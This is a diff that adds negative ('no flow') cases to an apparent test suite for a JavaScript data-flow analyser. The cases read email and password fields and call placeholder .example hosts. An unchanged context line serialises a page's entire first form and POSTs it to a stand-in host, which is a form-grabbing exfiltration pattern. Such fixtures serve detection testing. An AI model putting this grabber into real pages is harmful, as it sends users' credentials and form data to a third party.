@@ -117,3 +117,15 @@ const grab = (node, out) => {
   return out;
 };
 fetch('https://walk.hof.example/w', { method: 'POST', body: grab(document.forms[0], []).join('&') });
+
+//# argument-not-passed-on
+// no flow
+// why: the wrapper gives the function its name instead of the value
+const traced = (name, fn) => (v) => { console.log(name, v.length); return fn(name); };
+const sendName = traced('signup', (x) => fetch('https://traced.hof.example/t?x=' + x));
+sendName(document.querySelector('input[type=email]').value);
+
+//# map-to-length
+// no flow
+const lens = ['input[type=email]', 'input[type=password]'].map((s) => document.querySelector(s).value.length);
+fetch('https://lens.hof.example/l?n=' + lens.join('.'));
